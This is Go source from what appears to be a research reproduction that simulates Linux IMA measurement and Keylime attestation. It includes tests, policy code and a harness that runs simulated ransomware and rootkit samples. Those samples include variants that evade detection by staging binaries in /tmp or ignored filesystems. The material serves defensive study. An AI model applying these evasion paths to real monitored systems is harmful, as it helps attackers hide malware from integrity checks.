func sanitizePath(s string) string {
	out := make([]rune, 0, len(s))
	for _, r := range s {
		if r == '\n' || r == '\r' {
			continue
		}
		out = append(out, r)
	}
	return string(out)
}

// Property: ReplayAggregate over a log prefix equals extending step by step.
func TestReplayPrefixConsistencyProperty(t *testing.T) {
	f := func(contents [][8]byte) bool {
		entries := make([]Entry, len(contents))
		for i, c := range contents {
			d := sha256.Sum256(c[:])
			entries[i] = Entry{PCR: 10, FileDigest: d, Path: "/p"}
			entries[i].TemplateHash = TemplateHash(d, "/p")
		}
		var bank tpm.PCRBank
		for i := range entries {
			_ = bank.Extend(tpm.PCRIMA, entries[i].TemplateHash)
			pcr, _ := bank.Read(tpm.PCRIMA)
			if ReplayAggregate(entries[:i+1]) != pcr {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 30}); err != nil {
		t.Fatal(err)
	}
}

func TestIMASigTemplateForSignedFiles(t *testing.T) {
	v := newMachineFS(t)
	m, bank := newIMA(t)
	if err := v.WriteFile("/usr/bin/signed", []byte("vendor-bin"), vfs.ModeExecutable); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := v.SetXattr("/usr/bin/signed", vfs.IMAXattr, "deadbeef"); err != nil {
		t.Fatalf("SetXattr: %v", err)
	}
	info, _ := v.Stat("/usr/bin/signed")
	if info.IMASignature != "deadbeef" {
		t.Fatalf("IMASignature = %q", info.IMASignature)
	}
	e, measured := m.Measure(info, info.Path, HookBprmCheck)
	if !measured {
		t.Fatal("signed file not measured")
	}
	if e.Template() != TemplateNameSig {
		t.Fatalf("template = %q, want ima-sig", e.Template())
	}
	if e.Signature != "deadbeef" {
		t.Fatalf("entry signature = %q", e.Signature)
	}
	if !e.Valid() {
		t.Fatal("ima-sig entry template hash inconsistent")
	}
	// Replay still matches PCR 10.
	pcr, _ := bank.Read(tpm.PCRIMA)
	if ReplayAggregate(m.Entries(0)) != pcr {
		t.Fatal("replay mismatch with ima-sig entries")
	}
}

func TestIMASigSerializationRoundTrip(t *testing.T) {
	d := sha256.Sum256([]byte("content"))
	e := Entry{PCR: 10, FileDigest: d, Path: "/usr/bin/My Tool/run", Signature: "ab12cd34"}
	e.TemplateHash = TemplateHashSig(d, e.Path, e.Signature)
	line := FormatEntry(e)
	got, err := ParseEntry(line)
	if err != nil {
		t.Fatalf("ParseEntry(%q): %v", line, err)
	}
	if got != e {
		t.Fatalf("round trip: got %+v, want %+v", got, e)
	}
	if !got.Valid() {
		t.Fatal("parsed ima-sig entry invalid")
	}
}

func TestIMASigParseRejectsMissingSignature(t *testing.T) {
	d := sha256.Sum256([]byte("x"))
	e := Entry{PCR: 10, FileDigest: d, Path: "/bin/x", Signature: "ab"}
	e.TemplateHash = TemplateHashSig(d, e.Path, e.Signature)
	line := FormatEntry(e)
	// Truncate the signature token entirely.
	trunc := line[:strings.LastIndexByte(line, ' ')]
	if _, err := ParseEntry(trunc); err == nil {
		t.Fatal("ima-sig line without signature accepted")
	}
}

func TestTamperedSignatureBreaksEntry(t *testing.T) {
	d := sha256.Sum256([]byte("x"))
	e := Entry{PCR: 10, FileDigest: d, Path: "/bin/x", Signature: "ab12"}
	e.TemplateHash = TemplateHashSig(d, e.Path, e.Signature)
	e.Signature = "cd34"
	if e.Valid() {
		t.Fatal("entry with swapped signature still valid")
	}
}

func TestStaticFilesRuleMeasuresConfigReads(t *testing.T) {
	v := newMachineFS(t)
	pol := append(DefaultPolicy(), StaticFilesRule("/etc"))
	m, _ := newIMA(t, WithPolicy(pol))
	if err := v.WriteFile("/etc/ssh/sshd_config", []byte("PermitRootLogin no"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	if err := v.WriteFile("/var/lib/data", []byte("blob"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	info, _ := v.Stat("/etc/ssh/sshd_config")
	if _, measured := m.Measure(info, info.Path, HookFileCheck); !measured {
		t.Fatal("config read under /etc not measured by static-files rule")
	}
	other, _ := v.Stat("/var/lib/data")
	if _, measured := m.Measure(other, other.Path, HookFileCheck); measured {
		t.Fatal("read outside the static dirs measured")
	}
	// Prefix matching is path-segment aware: /etcetera must not match /etc.
	if err := v.WriteFile("/etcetera/x", []byte("x"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	sib, _ := v.Stat("/etcetera/x")
	if _, measured := m.Measure(sib, sib.Path, HookFileCheck); measured {
		t.Fatal("sibling directory matched by prefix rule")
	}
}

func TestStaticFileTamperDetectableViaPolicy(t *testing.T) {
	// End-to-end shape of the §V positioning: critical static files are in
	// the known list; tampering is re-measured (content change bumps the
	// generation) and the new digest would fail the allowlist.
	v := newMachineFS(t)
	m, _ := newIMA(t, WithPolicy(append(DefaultPolicy(), StaticFilesRule("/etc"))))
	if err := v.WriteFile("/etc/passwd", []byte("root:x:0:0"), vfs.ModeRegular); err != nil {
		t.Fatalf("WriteFile: %v", err)
	}
	info, _ := v.Stat("/etc/passwd")
	first, measured := m.Measure(info, info.Path, HookFileCheck)
	if !measured {
		t.Fatal("baseline config read not measured")
	}
	// Attacker adds a root account.
	if err := v.WriteFile("/etc/passwd", []byte("root:x:0:0\nevil:x:0:0"), vfs.ModeRegular); err != nil {
		t.Fatalf("tamper: %v", err)
	}
	info2, _ := v.Stat("/etc/passwd")
	second, measured := m.Measure(info2, info2.Path, HookFileCheck)
	if !measured {
		t.Fatal("tampered config read not re-measured")
	}
	if first.FileDigest == second.FileDigest {
		t.Fatal("tampering left the measured digest unchanged")
	}
}
