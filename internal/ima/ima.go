// Package ima simulates the Linux Integrity Measurement Architecture in its
// basic (measure + log + PCR extend) mode, which is what Keylime's
// continuous integrity attestation consumes.
//
// The simulation reproduces the behaviours the paper's findings hinge on:
//
//   - policy rules that skip whole filesystem types (tmpfs, procfs, ...);
//     the stock policy shipped with Keylime's documentation ignores them,
//     which is the paper's problem P3;
//   - a measure-once cache keyed by (filesystem, inode, content
//     generation): a file measured once is not measured again when merely
//     re-executed or renamed within the same filesystem — problem P4;
//     content changes bump the generation and do trigger re-measurement
//     (i_version semantics), which is what turns OS updates into the
//     paper's "hash mismatch" false positives;
//   - measurement happens at specific hooks (exec, mmap-exec, kernel module
//     load); a script run as "python3 script.py" only measures the
//     interpreter binary, never the script — problem P5;
//   - every measurement extends TPM PCR 10 with the entry's template hash,
//     so the verifier can replay the log and compare against a quote.
//
// A mitigation switch (WithReEvaluateOnPathChange) implements the paper's
// recommended P4 fix: including the path in the cache key so relocated
// files are re-measured.
package ima

import (
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
	"sync"

	"repro/internal/tpm"
	"repro/internal/vfs"
)

// Hook identifies the kernel point where a measurement is taken.
type Hook int

// Measurement hooks (subset of the kernel's ima_hooks).
const (
	// HookBprmCheck fires when a file is directly executed.
	HookBprmCheck Hook = iota + 1
	// HookFileMmap fires when a file is mapped with PROT_EXEC (shared
	// libraries, LD_PRELOAD objects).
	HookFileMmap
	// HookModuleCheck fires when a kernel module is loaded.
	HookModuleCheck
	// HookFileCheck fires for plain opens covered by policy (used by the
	// paper's observation that /tmp files opened for exec ARE measured by
	// IMA even though Keylime ignores the directory).
	HookFileCheck
	// HookScriptCheck fires when an interpreter that opted into "script
	// execution control" (the O_MAYEXEC patch set the paper's §IV-C
	// points to) opens a script for execution. It is the forward-looking
	// fix for problem P5.
	HookScriptCheck
)

var hookNames = map[Hook]string{
	HookBprmCheck:   "BPRM_CHECK",
	HookFileMmap:    "FILE_MMAP",
	HookModuleCheck: "MODULE_CHECK",
	HookFileCheck:   "FILE_CHECK",
	HookScriptCheck: "SCRIPT_CHECK",
}

// String returns the kernel-style hook name.
func (h Hook) String() string {
	if s, ok := hookNames[h]; ok {
		return s
	}
	return fmt.Sprintf("hook(%d)", int(h))
}

// Action is what a policy rule does when it matches.
type Action int

// Rule actions.
const (
	ActionMeasure Action = iota + 1
	ActionDontMeasure
)

// Rule is a single IMA policy rule. Rules are evaluated in order; the first
// match decides. A zero Hook, empty FSTypes set or empty PathPrefixes set
// matches anything.
type Rule struct {
	Action Action
	// Hook restricts the rule to one measurement hook (0 = any).
	Hook Hook
	// FSTypes restricts the rule to files on the listed filesystem types
	// (empty = any).
	FSTypes []vfs.FSType
	// PathPrefixes restricts the rule to files under the listed directory
	// prefixes (empty = any). Used to measure critical static files —
	// the paper's §V positioning says Keylime should verify "a known list
	// of executables AND static files".
	PathPrefixes []string
}

func (r Rule) matches(hook Hook, fsType vfs.FSType, path string) bool {
	if r.Hook != 0 && r.Hook != hook {
		return false
	}
	if len(r.FSTypes) > 0 {
		found := false
		for _, t := range r.FSTypes {
			if t == fsType {
				found = true
				break
			}
		}
		if !found {
			return false
		}
	}
	if len(r.PathPrefixes) > 0 {
		found := false
		for _, prefix := range r.PathPrefixes {
			if path == prefix || strings.HasPrefix(path, prefix+"/") {
				found = true
				break
			}
		}
		if !found {
			return false
		}
	}
	return true
}

// Policy is an ordered rule list.
type Policy []Rule

// ShouldMeasure reports whether a file at path on fsType hit at hook is
// measured. With no matching rule the file is not measured (kernel default).
func (p Policy) ShouldMeasure(hook Hook, fsType vfs.FSType, path string) bool {
	for _, r := range p {
		if r.matches(hook, fsType, path) {
			return r.Action == ActionMeasure
		}
	}
	return false
}

// StaticFilesRule measures plain opens (FILE_CHECK) of files under the
// given directories — coverage for critical configuration files like
// /etc/passwd or sshd_config that never pass through exec.
func StaticFilesRule(dirs ...string) Rule {
	return Rule{Action: ActionMeasure, Hook: HookFileCheck, PathPrefixes: dirs}
}

// IgnoredFSTypes is the set of filesystem types the stock policy refuses to
// measure — exactly the list the paper reports for problem P3.
func IgnoredFSTypes() []vfs.FSType {
	return []vfs.FSType{
		vfs.FSTypeTmpfs,
		vfs.FSTypeProcfs,
		vfs.FSTypeSysfs,
		vfs.FSTypeDebugfs,
		vfs.FSTypeRamfs,
		vfs.FSTypeSecurityfs,
		vfs.FSTypeOverlayfs,
		vfs.FSTypeDevtmpfs,
	}
}

// DefaultPolicy returns the policy derived from Keylime's documentation:
// don't-measure rules for the ignored filesystems followed by measure rules
// for exec, mmap-exec and module-load hooks.
func DefaultPolicy() Policy {
	return Policy{
		{Action: ActionDontMeasure, FSTypes: IgnoredFSTypes()},
		{Action: ActionMeasure, Hook: HookBprmCheck},
		{Action: ActionMeasure, Hook: HookFileMmap},
		{Action: ActionMeasure, Hook: HookModuleCheck},
	}
}

// MitigatedPolicy returns the paper's recommended enriched policy: the
// commonly-writable pseudo filesystems (tmpfs, ramfs, overlayfs, procfs) are
// measured too, so attacks executed from /tmp or /proc reach the log.
func MitigatedPolicy() Policy {
	return Policy{
		// Still skip the read-only informational filesystems.
		{Action: ActionDontMeasure, FSTypes: []vfs.FSType{
			vfs.FSTypeSysfs, vfs.FSTypeDebugfs, vfs.FSTypeSecurityfs, vfs.FSTypeDevtmpfs,
		}},
		{Action: ActionMeasure, Hook: HookBprmCheck},
		{Action: ActionMeasure, Hook: HookFileMmap},
		{Action: ActionMeasure, Hook: HookModuleCheck},
	}
}

// ScriptExecControlRule measures script opens flagged by opted-in
// interpreters. Appending it to a policy enables the paper's P5 fix for
// interpreters that support script execution control.
func ScriptExecControlRule() Rule {
	return Rule{Action: ActionMeasure, Hook: HookScriptCheck}
}

// SECPolicy is the mitigated policy plus script-execution-control
// measurement — the full set of fixes §IV-C describes.
func SECPolicy() Policy {
	return append(MitigatedPolicy(), ScriptExecControlRule())
}

// Template names for measurement entries.
const (
	// TemplateName is the default template (digest + path).
	TemplateName = "ima-ng"
	// TemplateNameSig additionally records the file's vendor signature
	// from the security.ima xattr.
	TemplateNameSig = "ima-sig"
)

// BootAggregatePath is the path recorded for the first post-boot entry.
const BootAggregatePath = "boot_aggregate"

// Entry is one measurement list record.
type Entry struct {
	// PCR is the register the entry was extended into (always 10 here).
	PCR int
	// TemplateHash is the digest folded into the PCR.
	TemplateHash tpm.Digest
	// FileDigest is the SHA-256 of the measured file content.
	FileDigest tpm.Digest
	// Path is the file path as seen at measurement time. For files
	// executed inside containers/chroots this is the truncated in-
	// namespace path (the paper's SNAP false-positive cause).
	Path string
	// Signature is the hex vendor signature ("" for ima-ng entries).
	Signature string
}

// Template returns the entry's template name.
func (e Entry) Template() string {
	if e.Signature != "" {
		return TemplateNameSig
	}
	return TemplateName
}

// templateHashFields hashes the length-prefixed template fields shared by
// ima-ng and ima-sig.
func templateHashFields(fileDigest tpm.Digest, path, sigHex string) tpm.Digest {
	// Serialize the template into a stack buffer and hash it in one shot:
	// this runs once per log entry on the verifier's hot path and must not
	// allocate. Only pathological paths (> ~450 bytes) spill to the heap.
	const dFieldLen = 7 + len(tpm.Digest{})
	size := 4 + dFieldLen + 4 + len(path) + 1
	if sigHex != "" {
		size += 4 + len(sigHex)
	}
	var stack [512]byte
	buf := stack[:0]
	if size > len(stack) {
		buf = make([]byte, 0, size)
	}
	var lenBuf [4]byte
	binary.LittleEndian.PutUint32(lenBuf[:], uint32(dFieldLen))
	buf = append(buf, lenBuf[:]...)
	buf = append(buf, "sha256:"...)
	buf = append(buf, fileDigest[:]...)
	binary.LittleEndian.PutUint32(lenBuf[:], uint32(len(path)+1))
	buf = append(buf, lenBuf[:]...)
	buf = append(buf, path...)
	buf = append(buf, 0)
	if sigHex != "" {
		binary.LittleEndian.PutUint32(lenBuf[:], uint32(len(sigHex)))
		buf = append(buf, lenBuf[:]...)
		buf = append(buf, sigHex...)
	}
	return sha256.Sum256(buf)
}

// TemplateHash computes the ima-ng template digest for a (file digest,
// path) pair: SHA-256 over length-prefixed "sha256:<digest>" and
// NUL-terminated path fields.
func TemplateHash(fileDigest tpm.Digest, path string) tpm.Digest {
	return templateHashFields(fileDigest, path, "")
}

// TemplateHashSig computes the ima-sig template digest, which additionally
// seals the vendor signature.
func TemplateHashSig(fileDigest tpm.Digest, path, sigHex string) tpm.Digest {
	return templateHashFields(fileDigest, path, sigHex)
}

// Valid reports whether the entry's template hash matches its fields.
func (e Entry) Valid() bool {
	return e.TemplateHash == templateHashFields(e.FileDigest, e.Path, e.Signature)
}

// Sentinel errors.
var (
	ErrNoPCRBank = errors.New("ima: no PCR bank attached")
)

// cacheKey identifies a measured object for the measure-once cache.
type cacheKey struct {
	fsID  uint32
	inode uint64
	// path participates only when re-evaluation on path change is enabled
	// (the paper's P4 mitigation); otherwise it is empty.
	path string
}

// Option configures the IMA subsystem.
type Option interface{ apply(*imaOptions) }

type imaOptions struct {
	policy     Policy
	reEvaluate bool
}

type policyOption Policy

func (o policyOption) apply(opts *imaOptions) { opts.policy = Policy(o) }

// WithPolicy installs a custom measurement policy.
func WithPolicy(p Policy) Option { return policyOption(p) }

type reEvalOption bool

func (o reEvalOption) apply(opts *imaOptions) { opts.reEvaluate = bool(o) }

// WithReEvaluateOnPathChange enables the paper's recommended P4 mitigation:
// the measure-once cache keys on path as well as inode, so files relocated
// within a filesystem are measured again at the new path.
func WithReEvaluateOnPathChange(on bool) Option { return reEvalOption(on) }

// IMA is the measurement subsystem of one machine. Construct with New; it
// extends the supplied PCR bank at register 10.
type IMA struct {
	mu         sync.Mutex
	policy     Policy
	pcrs       *tpm.PCRBank
	entries    []Entry
	cache      map[cacheKey]uint64 // -> generation measured
	reEvaluate bool
	bootCount  uint64
}

// New creates the subsystem bound to a PCR bank and records the
// boot_aggregate entry for the first boot.
func New(pcrs *tpm.PCRBank, opts ...Option) (*IMA, error) {
	if pcrs == nil {
		return nil, ErrNoPCRBank
	}
	o := imaOptions{policy: DefaultPolicy()}
	for _, opt := range opts {
		opt.apply(&o)
	}
	m := &IMA{
		policy:     o.policy,
		pcrs:       pcrs,
		cache:      make(map[cacheKey]uint64),
		reEvaluate: o.reEvaluate,
	}
	m.bootAggregate()
	return m, nil
}

// bootAggregate appends the post-boot aggregate entry. Caller must not hold mu.
func (m *IMA) bootAggregate() {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.bootCount++
	var seed [8]byte
	binary.BigEndian.PutUint64(seed[:], m.bootCount)
	digest := sha256.Sum256(append([]byte("boot-aggregate-pcr0-9:"), seed[:]...))
	m.appendLocked(digest, BootAggregatePath)
}

// appendLocked appends an entry and extends PCR 10. Caller holds mu.
func (m *IMA) appendLocked(fileDigest tpm.Digest, path string) Entry {
	return m.appendSignedLocked(fileDigest, path, "")
}

// appendSignedLocked appends an entry (ima-sig when sigHex is non-empty)
// and extends PCR 10. Caller holds mu.
func (m *IMA) appendSignedLocked(fileDigest tpm.Digest, path, sigHex string) Entry {
	e := Entry{
		PCR:          tpm.PCRIMA,
		TemplateHash: templateHashFields(fileDigest, path, sigHex),
		FileDigest:   fileDigest,
		Path:         path,
		Signature:    sigHex,
	}
	// Extending the bank cannot fail for the constant valid index.
	if err := m.pcrs.Extend(tpm.PCRIMA, e.TemplateHash); err != nil {
		panic(fmt.Sprintf("ima: extending PCR %d: %v", tpm.PCRIMA, err))
	}
	m.entries = append(m.entries, e)
	return e
}

// Policy returns the active policy.
func (m *IMA) Policy() Policy {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append(Policy(nil), m.policy...)
}

// SetPolicy replaces the active policy (new rules apply to future
// measurements only, like loading a new kernel policy).
func (m *IMA) SetPolicy(p Policy) {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.policy = append(Policy(nil), p...)
}

// Measure runs the measurement pipeline for a file event. visiblePath is
// the path as the measuring kernel sees it (it may differ from info.Path
// for containerized/chrooted execution, e.g. SNAPs). It returns the created
// entry and true when a new measurement was recorded.
func (m *IMA) Measure(info vfs.FileInfo, visiblePath string, hook Hook) (Entry, bool) {
	m.mu.Lock()
	defer m.mu.Unlock()
	if !m.policy.ShouldMeasure(hook, info.FSType, visiblePath) {
		return Entry{}, false
	}
	key := cacheKey{fsID: info.FSID, inode: info.Inode}
	if m.reEvaluate {
		key.path = visiblePath
	}
	if gen, ok := m.cache[key]; ok && gen == info.Generation {
		// Measured once already and unchanged: the kernel does not
		// re-measure (paper problem P4).
		return Entry{}, false
	}
	m.cache[key] = info.Generation
	// Files carrying a vendor signature in security.ima are recorded with
	// the ima-sig template so verifiers can appraise them by key.
	return m.appendSignedLocked(info.Digest, visiblePath, info.IMASignature), true
}

// Entries returns a copy of the measurement list starting at offset (the
// Keylime agent serves incremental log suffixes).
func (m *IMA) Entries(offset int) []Entry {
	m.mu.Lock()
	defer m.mu.Unlock()
	if offset < 0 {
		offset = 0
	}
	if offset >= len(m.entries) {
		return nil
	}
	out := make([]Entry, len(m.entries)-offset)
	copy(out, m.entries[offset:])
	return out
}

// Len reports the measurement list length.
func (m *IMA) Len() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.entries)
}

// Reboot clears the measurement list and cache, resets the PCR bank and
// records a fresh boot aggregate — the semantics behind the paper's
// "detectable upon reboot / fresh attestation" verdicts.
func (m *IMA) Reboot() {
	m.mu.Lock()
	m.entries = nil
	m.cache = make(map[cacheKey]uint64)
	m.pcrs.Reset()
	m.mu.Unlock()
	m.bootAggregate()
}

// ExtendAggregate folds one template hash into a running PCR value:
// SHA-256(pcr || th), the TPM extend operation. It is allocation-free —
// the hot-path building block for log replay, which the seed implementation
// paid one heap allocation per entry for (hash.Hash.Sum(nil)).
func ExtendAggregate(pcr, th tpm.Digest) tpm.Digest {
	var buf [2 * sha256.Size]byte
	copy(buf[:sha256.Size], pcr[:])
	copy(buf[sha256.Size:], th[:])
	return sha256.Sum256(buf[:])
}

// ReplayAggregate folds the template hashes of entries into a fresh PCR
// value, reproducing what PCR 10 should contain if the log is intact.
func ReplayAggregate(entries []Entry) tpm.Digest {
	var pcr tpm.Digest
	for _, e := range entries {
		pcr = ExtendAggregate(pcr, e.TemplateHash)
	}
	return pcr
}
