package ima

import (
	"crypto/sha256"
	"testing"
)

// FuzzParseLog exercises the measurement-list parser with arbitrary input:
// it must never panic, and anything it accepts must round-trip.
func FuzzParseLog(f *testing.F) {
	d := sha256.Sum256([]byte("seed"))
	e := Entry{PCR: 10, FileDigest: d, Path: "/usr/bin/seed"}
	e.TemplateHash = TemplateHash(d, e.Path)
	f.Add(FormatLog([]Entry{e}))
	f.Add("")
	f.Add("10 zz ima-ng sha256:zz /x\n")
	f.Add("10 00 ima-ng sha256:00 /x\n10 00 ima-ng sha256:00 /y\n")
	f.Fuzz(func(t *testing.T, input string) {
		entries, err := ParseLog(input)
		if err != nil {
			return
		}
		// Accepted input must round-trip exactly.
		again, err := ParseLog(FormatLog(entries))
		if err != nil {
			t.Fatalf("reparse of formatted log failed: %v", err)
		}
		if len(again) != len(entries) {
			t.Fatalf("round trip changed entry count: %d -> %d", len(entries), len(again))
		}
		for i := range entries {
			if entries[i] != again[i] {
				t.Fatalf("round trip changed entry %d", i)
			}
		}
	})
}

// FuzzParseEntry must never panic on arbitrary single lines.
func FuzzParseEntry(f *testing.F) {
	f.Add("10 00 ima-ng sha256:00 /bin/x")
	f.Add("not an entry at all")
	f.Fuzz(func(t *testing.T, line string) {
		e, err := ParseEntry(line)
		if err != nil {
			return
		}
		if FormatEntry(e) == "" {
			t.Fatal("accepted entry formats to empty string")
		}
	})
}
