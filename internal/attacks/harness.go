package attacks

import (
	"context"
	"errors"
	"fmt"

	"repro/internal/keylime/verifier"
)

// Outcome classifies how an attack run ended, matching Table II's legend.
type Outcome int

// Outcomes.
const (
	// OutcomeDetectedLive: an attestation before the attack completed
	// flagged an artifact (Table II "✓").
	OutcomeDetectedLive Outcome = iota + 1
	// OutcomeDetectedFresh: the first attestation after completion
	// flagged an artifact (Table II "✓*", fresh attestation).
	OutcomeDetectedFresh
	// OutcomeDetectedReboot: only the post-reboot attestation flagged an
	// artifact (Table II "✓*", upon reboot).
	OutcomeDetectedReboot
	// OutcomeUndetected: no attestation ever flagged an artifact ("✗").
	OutcomeUndetected
)

// Detected reports whether the attack was caught at any point.
func (o Outcome) Detected() bool { return o != OutcomeUndetected }

// Symbol renders the Table II legend symbol.
func (o Outcome) Symbol() string {
	switch o {
	case OutcomeDetectedLive:
		return "✓"
	case OutcomeDetectedFresh, OutcomeDetectedReboot:
		return "✓*"
	default:
		return "✗"
	}
}

// String names the outcome.
func (o Outcome) String() string {
	switch o {
	case OutcomeDetectedLive:
		return "detected-live"
	case OutcomeDetectedFresh:
		return "detected-fresh-attestation"
	case OutcomeDetectedReboot:
		return "detected-upon-reboot"
	case OutcomeUndetected:
		return "undetected"
	default:
		return fmt.Sprintf("outcome(%d)", int(o))
	}
}

// RunResult reports one scenario execution.
type RunResult struct {
	Attack  string
	Variant Variant
	Outcome Outcome
	// DetectedAtStep is the 1-based step index whose following attestation
	// flagged an artifact (0 if none).
	DetectedAtStep int
	// ArtifactFailures are the failures naming attack artifacts.
	ArtifactFailures []verifier.Failure
	// OtherFailures are failures on non-artifact paths (e.g. the benign
	// decoy of a P2 attack).
	OtherFailures []verifier.Failure
	// HaltedDuringRun reports that stop-on-failure froze the verifier at
	// some point (the P2 blind window was open).
	HaltedDuringRun bool
}

// Harness drives a scenario against a monitored machine: it performs each
// step, attests after it (modeling continuous polling at a cadence faster
// than the attack), and classifies the outcome. With CheckReboot set, an
// undetected run is followed by a reboot, the sample's persistence
// reactivation, and a final fresh attestation.
type Harness struct {
	Verifier *verifier.Verifier
	AgentID  string
	// CheckReboot enables the post-reboot detection phase.
	CheckReboot bool
	// AttestEveryStep attests after every step (polling faster than the
	// attack progresses). When false, only the post-completion fresh
	// attestation (and the optional reboot check) run — the realistic
	// cadence for second-scale attacks against a minutes-scale poller,
	// and the mode the paper's mitigation column is judged in.
	AttestEveryStep bool
}

// attestAndClassify runs one attestation round and splits new failures into
// artifact/other. ErrHalted is not an error: it is the P2 blind window.
func (h *Harness) attestAndClassify(ctx context.Context, env *Env, res *RunResult, seen *int) (foundArtifact bool, err error) {
	_, aerr := h.Verifier.AttestOnce(ctx, h.AgentID)
	if aerr != nil {
		if errors.Is(aerr, verifier.ErrHalted) {
			res.HaltedDuringRun = true
			return false, nil
		}
		return false, aerr
	}
	st, err := h.Verifier.Status(h.AgentID)
	if err != nil {
		return false, err
	}
	if st.Halted {
		res.HaltedDuringRun = true
	}
	newFailures := st.Failures[*seen:]
	*seen = len(st.Failures)
	for _, f := range newFailures {
		if env.IsArtifact(f.Path) {
			res.ArtifactFailures = append(res.ArtifactFailures, f)
			foundArtifact = true
		} else {
			res.OtherFailures = append(res.OtherFailures, f)
		}
	}
	return foundArtifact, nil
}

// Run executes the scenario.
func (h *Harness) Run(ctx context.Context, env *Env, sc Scenario) (RunResult, error) {
	res := RunResult{Attack: sc.Attack.Name, Variant: sc.Variant, Outcome: OutcomeUndetected}
	seen := 0
	lastStep := len(sc.Steps) - 1
	for i, step := range sc.Steps {
		if err := step.Do(env); err != nil {
			return res, fmt.Errorf("attacks: %s %s step %d (%s): %w",
				sc.Attack.Name, sc.Variant, i+1, step.Name, err)
		}
		if !h.AttestEveryStep {
			continue
		}
		found, err := h.attestAndClassify(ctx, env, &res, &seen)
		if err != nil {
			return res, err
		}
		if found && res.Outcome == OutcomeUndetected {
			res.DetectedAtStep = i + 1
			if i < lastStep {
				res.Outcome = OutcomeDetectedLive
			} else {
				res.Outcome = OutcomeDetectedFresh
			}
		}
	}
	if res.Outcome == OutcomeUndetected {
		// One more fresh attestation after completion (the verifier's next
		// regular poll).
		found, err := h.attestAndClassify(ctx, env, &res, &seen)
		if err != nil {
			return res, err
		}
		if found {
			res.DetectedAtStep = len(sc.Steps)
			res.Outcome = OutcomeDetectedFresh
		}
	}
	if res.Outcome == OutcomeUndetected && h.CheckReboot {
		if err := env.M.Reboot(); err != nil {
			return res, fmt.Errorf("attacks: rebooting for detection check: %w", err)
		}
		if err := sc.Attack.Reactivate(env); err != nil && !errors.Is(err, ErrNoPersistence) {
			return res, fmt.Errorf("attacks: reactivating %s: %w", sc.Attack.Name, err)
		}
		found, err := h.attestAndClassify(ctx, env, &res, &seen)
		if err != nil {
			return res, err
		}
		if found {
			res.Outcome = OutcomeDetectedReboot
		}
	}
	return res, nil
}
