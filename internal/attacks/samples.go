package attacks

import (
	"fmt"

	"repro/internal/vfs"
)

// This file defines the eight samples of Table II. Step plans are distilled
// from each sample's real deployment behaviour (documented per attack); the
// adaptive variants wire in the specific problems the paper reports the
// sample can exploit.

// execArtifact drops an executable artifact and runs it.
func execArtifact(e *Env, path string, content string) error {
	if err := e.drop(path, []byte(content), vfs.ModeExecutable); err != nil {
		return err
	}
	return e.M.Exec(path)
}

// AvosLocker is a ransomware family distributed as a single ELF binary: it
// is dropped, executed, and encrypts files in place. It ships no scripts,
// so P5 does not apply to it.
func avosLocker() *Attack {
	encrypt := func(e *Env, binary string) error {
		// Encrypt a swath of data files (writes are invisible to IMA's
		// exec-focused policy; only the binary's execution is attestable).
		n := 0
		var victims []string
		err := e.M.FS().Walk("/usr/share", func(info vfs.FileInfo) error {
			if info.Mode.IsExec() || n >= 25 {
				return nil
			}
			victims = append(victims, info.Path)
			n++
			return nil
		})
		if err != nil {
			return fmt.Errorf("attacks: scanning victims: %w", err)
		}
		for _, v := range victims {
			if err := e.M.WriteFile(v+".avos", []byte("ENCRYPTED:"+v), vfs.ModeRegular); err != nil {
				return fmt.Errorf("attacks: encrypting %s: %w", v, err)
			}
			if err := e.M.FS().Remove(v); err != nil {
				return fmt.Errorf("attacks: removing plaintext %s: %w", v, err)
			}
		}
		_ = binary
		return nil
	}
	return &Attack{
		Name:     "AvosLocker",
		Category: CategoryRansomware,
		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P4NoReEvaluation},
		basic: []Step{
			{Name: "drop binary in /usr/local/bin", Do: func(e *Env) error {
				return e.drop("/usr/local/bin/avoslocker", []byte("\x7fELF avoslocker"), vfs.ModeExecutable)
			}},
			{Name: "execute and encrypt", Final: true, Do: func(e *Env) error {
				if err := e.M.Exec("/usr/local/bin/avoslocker"); err != nil {
					return err
				}
				return encrypt(e, "/usr/local/bin/avoslocker")
			}},
		},
		adaptive: []Step{
			{Name: "stage binary in /tmp (P1: Keylime excludes it)", Do: func(e *Env) error {
				return e.drop("/tmp/avoslocker", []byte("\x7fELF avoslocker"), vfs.ModeExecutable)
			}},
			{Name: "execute from /tmp and encrypt", Final: true, Do: func(e *Env) error {
				if err := e.M.Exec("/tmp/avoslocker"); err != nil {
					return err
				}
				return encrypt(e, "/tmp/avoslocker")
			}},
		},
	}
}

// Diamorphine is a classic loadable-kernel-module rootkit: its deployment
// compiles the module with make/gcc and loads it with insmod.
func diamorphine() *Attack {
	a := &Attack{
		Name:     "Diamorphine",
		Category: CategoryRootkit,
		Exploits: []Problem{P1UnmonitoredDirectories, P2IncompleteAttestationLog, P3UnmonitoredFilesystems, P4NoReEvaluation, P5ScriptInterpreters},
	}
	a.basic = []Step{
		{Name: "unpack source and compile", Do: func(e *Env) error {
			if err := e.drop("/usr/src/diamorphine/diamorphine.c", []byte("// rootkit source"), vfs.ModeRegular); err != nil {
				return err
			}
			if err := e.M.Exec(MakePath); err != nil {
				return err
			}
			if err := e.M.Exec(GCCPath); err != nil {
				return err
			}
			kver := e.M.RunningKernel()
			return e.drop("/usr/lib/modules/"+kver+"/diamorphine.ko", []byte("ELF-ko diamorphine"), vfs.ModeRegular)
		}},
		{Name: "insmod diamorphine.ko", Final: true, Do: func(e *Env) error {
			return e.M.LoadModule("/usr/lib/modules/" + e.M.RunningKernel() + "/diamorphine.ko")
		}},
	}
	a.adaptive = []Step{
		{Name: "build in /tmp working directory", Do: func(e *Env) error {
			if err := e.drop("/tmp/diamorphine/diamorphine.c", []byte("// rootkit source"), vfs.ModeRegular); err != nil {
				return err
			}
			if err := e.M.Exec(MakePath); err != nil {
